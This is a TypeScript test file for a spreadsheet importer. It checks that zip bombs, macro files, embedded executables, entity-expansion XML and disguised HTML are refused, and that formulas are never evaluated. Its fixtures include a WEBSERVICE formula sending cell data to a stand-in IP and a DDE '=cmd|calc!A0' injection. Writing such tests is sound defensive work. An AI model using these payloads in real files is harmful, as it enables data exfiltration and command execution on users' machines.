import { afterAll, beforeAll, expect, test } from 'vitest'
import { begin, count, tryOut } from '../../../test/support/imports.ts'
import { makeWorld, type World } from '../../../test/support/world.ts'
import { addProject } from '../places/contract/projects.ts'
import { listImportRows } from './contract/rows.ts'
import { type KindName, kindNames } from './contract/words.ts'
import { sheetXml, zipOf } from './workbook-fixture.ts'

let world: World
let project: string
beforeAll(async () => {
  world = await makeWorld()
  project = (await world.as(world.admin)(addProject, { name: '云栖花园' })).id
})
afterAll(() => world.close())

const text = (cell: string, value: string) => `<c r="${cell}" t="inlineStr"><is><t>${value}</t></is></c>`
const header = `<row r="1">${text('A1', '房号')}${text('B1', '姓名')}</row>`
const ole = (inside: string) =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(inside, 'utf16le')])
const bomb = () =>
  zipOf({
    'xl/workbook.xml': '<workbook/>',
    'xl/worksheets/sheet1.xml': { packed: Buffer.alloc(1000), size: 2_000_000_000 },
  })

const hostile: [string, string, () => Buffer, string][] = [
  ['a zip bomb', '房号.xlsx', bomb, '解开后大得不正常'],
  [
    'macros',
    '房号.xlsm',
    () => sheetXml(header, '', { 'xl/vbaProject.bin': 'x' }),
    '文件带宏，请另存为不带宏的 .xlsx。',
  ],
  [
    'links to another workbook',
    '房号.xlsx',
    () => sheetXml(header, '', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
    '文件引用了别的工作簿，请先在「数据 – 编辑链接」里断开。',
  ],
  ['a password', '房号.xlsx', () => ole('EncryptedPackage'), '文件有密码，请去掉密码再传。'],
  ['the old format', '房号.xls', () => ole('Workbook'), '旧的 .xls 格式'],
  [
    'a file inside the file',
    '房号.xlsx',
    () => sheetXml(header, '', { 'xl/embeddings/a.exe': 'MZ' }),
    '里面还套着文件',
  ],
  [
    'entities that explode',
    '房号.xlsx',
    () => sheetXml(header, '', {}, '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;">]>'),
    '不安全的定义',
  ],
  ['a page of the web', '房号.xlsx', () => Buffer.from('<html><table><tr><td>房号'), '网页改名的表格'],
]

test.each(hostile)(
  '%s is refused in a sentence, whatever kind of file it is said to be',
  async (_name, file, make, said) => {
    for (const kind of kindNames as KindName[]) {
      const read = await begin(world, world.admin, make(), file, project, kind)
      expect(read.state).toBe('failed')
      expect(read.problem!.zh).toContain(said)
      expect(read.problem!.en).toMatch(/^[A-Z].*\.$/)
    }
    expect(await count(world, 'select count(*) from import_rows where tenant_id = $1')).toBe(0)
  },
)

test('a formula is never worked out: its stored value counts and is said, without one the cell is empty', async () => {
  const formula = 'WEBSERVICE("http://192.0.2.1/"&amp;A1)'
  const rows = `${header}
    <row r="2"><c r="A2" t="str"><f>${formula}</f><v>1-1-101</v></c>${text('B2', '=cmd|calc!A0')}</row>
    <row r="3"><c r="A3"><f>${formula}</f></c>${text('B3', '王芳')}</row>`
  const read = await begin(world, world.admin, sheetXml(rows), '房号.xlsx', project, 'homes')
  const tried = await tryOut(world, world.admin, read.id)
  expect(tried.preview!.tally).toMatchObject({ total: 2, created: 1, refused: 1 })
  const { rows: shown } = await world.as(world.admin)(listImportRows, { id: read.id, outcome: 'created' })
  expect(shown[0]!.notes.map(({ words }) => words.zh)).toEqual([
    '「1-1-101」是公式算出来的，按文件里存着的结果导入。',
  ])
})

test('a sheet of 1,048,576 rows of which two are filled is two rows', { timeout: 120_000 }, async () => {
  const parts = [header, `<row r="2">${text('A2', '1-1-102')}</row>`]
  for (let row = 3; row <= 1_048_576; row++) parts.push(`<row r="${row}"/>`)
  const read = await begin(world, world.admin, sheetXml(parts.join('')), '房号.xlsx', project, 'homes')
  const tried = await tryOut(world, world.admin, read.id)
  expect(tried.preview!.tally).toMatchObject({ total: 1, created: 1 })
})
